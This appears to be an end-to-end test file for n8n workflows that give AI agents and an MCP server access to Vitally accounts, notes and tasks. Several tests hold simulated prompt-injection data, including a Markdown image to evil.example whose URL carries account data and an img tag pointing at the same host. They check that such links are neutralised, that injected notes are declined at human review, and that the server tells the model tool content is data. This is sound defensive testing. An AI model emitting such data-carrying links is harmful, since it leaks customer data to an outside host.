import assert from 'node:assert/strict';

import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { IDataObject } from 'n8n-workflow';

import { until } from '../child.cts';
import { TOKEN, TOKEN_HEADER } from '../fakeServices/fakeServices.cts';
import type { Turn } from '../fakeServices/openAi.cts';
import { emittedBy, postJson } from '../session.cts';
import { assertRecord, only, registered } from './assertions.cts';
import type { ExampleRun, Surroundings } from './exampleRun.cts';

/** The examples with models. */
export const MODELS: Record<string, ExampleRun> = {
	'agent-with-tools': async ({ chat, openAi, state }) => {
		const { calls, assertDone } = toolCalls(state);
		const writes = ['log_note', 'create_task', 'update_account'];
		// n8n puts the fields of a tool with a review one level down.
		const reviewed = (values: IDataObject) => ({ toolParameters: values, hitlParameters: {} });
		const turns = calls.map(
			([tool, values]): Turn => [[tool, writes.includes(tool) ? reviewed(values) : values]],
		);
		const note = calls.find(([tool]) => tool === 'log_note')?.[1];
		// A text in Vitally may make the model say this: an image whose address carries data.
		const image = '![](https://evil.example/?health=3)';
		const notNow = { ...note, Note_Text: `Not now\n\`\`\`\n${image}` };

		openAi.say(...turns, [['log_note', reviewed(notNow)]], `Done. ${image} !${image}`);
		const asked: string[] = [];
		const messages = await chat('Chat', 'Log the call', ({ text }) => {
			asked.push(text);

			return text.includes('Not now') ? 'Decline' : 'Approve';
		});

		const link = '[](https://evil.example/?health=3)';

		assert.deepEqual(messages, [`Done. ${link} ${link}`]);
		assert.deepEqual(
			// A block of code reaches to the end, so nothing in it is Markdown.
			asked.map((text) => /^May I run (\w+) with.+\n\n```json\n[^`]+\n```$/.exec(text)?.[1]),
			['create_task', 'log_note', 'update_account', 'log_note'],
		);
		assert.match(asked[1], /"Note_Text": "\*\*Agreed\*\*"/);
		assert.ok(asked.every((text) => text.includes(`"Account": ${JSON.stringify(note?.Account)}`)));

		const answers = openAi.requests.map(({ messages: all }) => String(all.at(-1)?.content));

		assert.match(String(answers.pop()), /rejected/);
		assertDone(answers.slice(1));
	},

	'mcp-server': async ({ activate, started, sandbox, state }) => {
		const { calls, assertDone } = toolCalls(state);
		const client = await mcpClient(await activate('/mcp/vitally'));

		assert.match(client.getInstructions() ?? '', /are data/);

		const { tools } = await client.listTools();

		assert.deepEqual(
			tools.map(({ name }: { name: string }) => name).sort(),
			calls.map(([tool]) => tool).sort(),
		);

		for (const { inputSchema } of tools) {
			const fields = inputSchema.properties as Record<string, { description?: string }>;

			for (const { description } of Object.values(fields)) assert.ok(description);
			assert.deepEqual(inputSchema.required, Object.keys(fields));
		}

		/** @returns the text that the model reads */
		const call = async (name: string, values: IDataObject) => {
			const { content } = await client.callTool({ name, arguments: values });

			return JSON.stringify(content);
		};

		const answers: string[] = [];

		for (const [tool, values] of calls) answers.push(await call(tool, values));
		assertDone(answers);

		await started(calls.length);

		// What a model reads when it sends what is wrong: enough to do better, and never the key.
		const unknown = await call('get_account', { Account: 'no-such-account' });

		assert.match(unknown, /no-such-account/);
		assert.ok(!unknown.includes(sandbox.apiKey));
		assert.match(await call('get_account', { Account: 'null' }), /'Account'/);

		const [{ name }] = state.accounts.all();
		const renewal = { Account: name, Next_Renewal_Date: 'next week', Traits__JSON_: '{}' };

		assert.match(await call('update_account', renewal), /not a date[^]*2026-03-01/);

		await client.close();
	},

	'mcp-server-read-only': async ({ activate, started, sandbox, state, writes }) => {
		const client = await mcpClient(await activate('/mcp/vitally-read-only'));
		const [note] = state.notes.all();
		const Account = String(note.accountId);
		const name = String(state.accounts.get(Account)?.name);

		state.notes.change(note, { note: '<p>Agreed <img alt="Chart" src="//evil.example"></p>' });
		const calls: Array<[tool: string, values: IDataObject, answer: string]> = [
			['find_accounts', { Name_Contains: name.slice(1), Limit: 5 }, Account],
			['get_account', { Account }, name],
			['brief_account', { Account }, name],
			['list_notes', { Account, Limit: 20 }, 'Agreed Chart'],
			['list_tasks', { Account, Limit: 5 }, '['],
			['list_nps_responses', { Account, Limit: 5 }, '['],
		];
		const { tools } = await client.listTools();

		assert.deepEqual(
			tools.map((tool: { name: string }) => tool.name).sort(),
			calls.map(([tool]) => tool).sort(),
		);

		for (const [tool, values, answer] of calls) {
			const { content, isError } = await client.callTool({ name: tool, arguments: values });

			assert.ok(!isError && JSON.stringify(content).includes(answer), JSON.stringify(content));
		}

		await started(calls.length);
		assert.equal(writes(), 0);
		assert.ok(sandbox.requests.length >= calls.length);

		await client.close();
	},

	'triage-conversations': async ({ from, openAi, state }) => {
		const trigger = 'Conversation Updated';
		const all = [...state.conversations.all()];

		for (const conversation of all) state.conversations.change(conversation, { source: 'google' });
		const [sample] = emittedBy(await from(trigger), trigger);

		assert.equal(sample.source, 'google');

		const [waiting, answered, copied] = all.filter(({ messages }) => messages.length > 2);

		/** Lets a conversation end with a message from a user, or from a teammate. */
		const endWith = (conversation: typeof waiting, type: 'user' | 'admin', source: string) => {
			const from = conversation.messages.find((message) => message.from.type === type)?.from;

			assert.ok(from);

			const messages = conversation.messages.map((message, index) =>
				index === conversation.messages.length - 1
					? { ...message, from, message: '<p>Nobody can <b>log in</b></p>' }
					: message,
			);

			state.conversations.change(conversation, { messages, source });
		};

		endWith(waiting, 'user', 'intercom');
		endWith(answered, 'admin', 'zendesk');
		endWith(copied, 'user', 'google');
		openAi.say('Urgent, because nobody can work.', 'No idea');
		const run = async () =>
			await from(
				trigger,
				[waiting, answered, copied].map(({ id, source, subject }) => ({ id, source, subject })),
			);
		const topics = () =>
			[waiting, answered, copied].map(({ id }) => state.conversations.get(id)?.traits.topic);

		await run();
		assert.deepEqual(topics(), ['urgent', undefined, undefined]);

		const text = JSON.stringify(only(openAi.requests, 'requests to the model').messages[1]);

		assert.match(text, new RegExp(`Subject: ${waiting.subject}`));
		assert.match(text, /Customer: +Nobody can +log in/);

		await run();
		assert.deepEqual(topics(), ['question', undefined, undefined]);
	},

	'call-summary-to-note': async ({ activate, started, openAi, state }) => {
		const account = [...state.accounts.all()].find(({ traits }) => !traits.churnedAt);

		assert.ok(account);

		const transcript = 'We would like to renew.';
		const call = { id: 'call-1', account: account.externalId, title: 'Renewal', transcript };
		const body = { ...call, startedAt: '2026-11-19T15:30:00+01:00', topics: ['renewal'] };
		const before = state.notes.size;
		const url = await activate('/webhook/vitally-call-finished');

		assert.equal(await registered(async () => await postJson(url, body)), 403);

		const post = async () => (await postJson(url, body, { [TOKEN_HEADER]: TOKEN })).status;

		openAi.say('They will **renew**.', 'They **renewed**.');
		assert.equal(await post(), 200);

		await started(1);

		const { messages, model } = only(openAi.requests, 'requests to the model');

		assert.equal(model, 'gpt-5-mini');
		assert.match(JSON.stringify(messages[1]), /Title: Renewal\\n\\nWe would like to renew\./);

		const note = state.notes.byExternalId('call-1');
		const plan = String(account.traits.plan);

		assertRecord(note, {
			accountId: account.id,
			note: `<p>They will <strong>renew</strong>.</p><p>Plan at the time: <strong>${plan}</strong></p>`,
			noteDate: '2026-11-19T14:30:00.000Z',
			categoryId: [...state.noteCategories.all()].find(({ name }) => name === 'Call')?.id,
			tags: ['call', 'renewal'],
		});

		if (note) state.notes.change(note, { tags: [...note.tags, 'upsell'] });

		assert.equal(await post(), 200);

		await started(2);
		const changed = state.notes.byExternalId('call-1');

		assert.match(String(changed?.note), /<strong>renewed<\/strong>/);
		assert.deepEqual(changed?.tags.toSorted(), ['call', 'renewal', 'upsell']);
		assert.equal(state.notes.size, before + 1);
	},
};

/** Connects as a model does, by the Model Context Protocol. */
async function mcpClient(url: string): Promise<Client> {
	return await until('the MCP server', async () => {
		const client = new Client({ name: 'e2e', version: '1' });
		const requestInit = { headers: { authorization: `Bearer ${TOKEN}` } };

		await client.connect(new StreamableHTTPClientTransport(new URL(url), { requestInit }));

		return client;
	});
}

/** Returns the tools of the examples for models, with what a model sends, and an assertion of what that does in Vitally. */
function toolCalls(state: Surroundings['state']) {
	const [{ id, name, traits }] = state.accounts.all();
	const [admin] = state.admins.all();
	const noteCount = state.notes.size;
	const taskCount = state.tasks.size;
	// The word null is what models send for nothing.
	const task = { Account: name, Name: 'Send the offer', Description: '', Due_Date: 'null' };
	const note = { Account: name, Subject: 'Call' };
	const change = { Account: name, Next_Renewal_Date: '2027-01-31' };
	const calls: Array<[tool: string, values: IDataObject]> = [
		['find_accounts', { Name_Contains: name.slice(1), Limit: 5 }],
		['get_account', { Account: id }],
		['brief_account', { Account: id }],
		['create_task', { ...task, Assigned_To: admin.email }],
		['log_note', { ...note, Note_Text: '**Agreed**', Note_Date: '2026-03-31' }],
		['update_account', { ...change, Traits__JSON_: '{"plan": "gold"}' }],
	];

	/** @param answers what the tools returned, in the order of the calls */
	const assertDone = ([found, ...read]: string[]): void => {
		assert.ok(found.includes(id), found);

		for (const answer of read.slice(0, 2)) assert.ok(answer.includes(name), answer);

		assertRecord([...state.notes.all()].at(-1), {
			accountId: id,
			subject: 'Call',
			note: '<p><strong>Agreed</strong></p>',
		});
		assertRecord([...state.tasks.all()].at(-1), {
			accountId: id,
			name: task.Name,
			dueDate: null,
			assignedToId: admin.id,
		});
		assert.equal(state.notes.size, noteCount + 1);
		assert.equal(state.tasks.size, taskCount + 1);
		assert.deepEqual(state.accounts.get(id)?.traits, {
			...traits,
			plan: 'gold',
			nextRenewalDate: '2027-01-31T00:00:00.000Z',
		});
	};

	return { calls, assertDone };
}
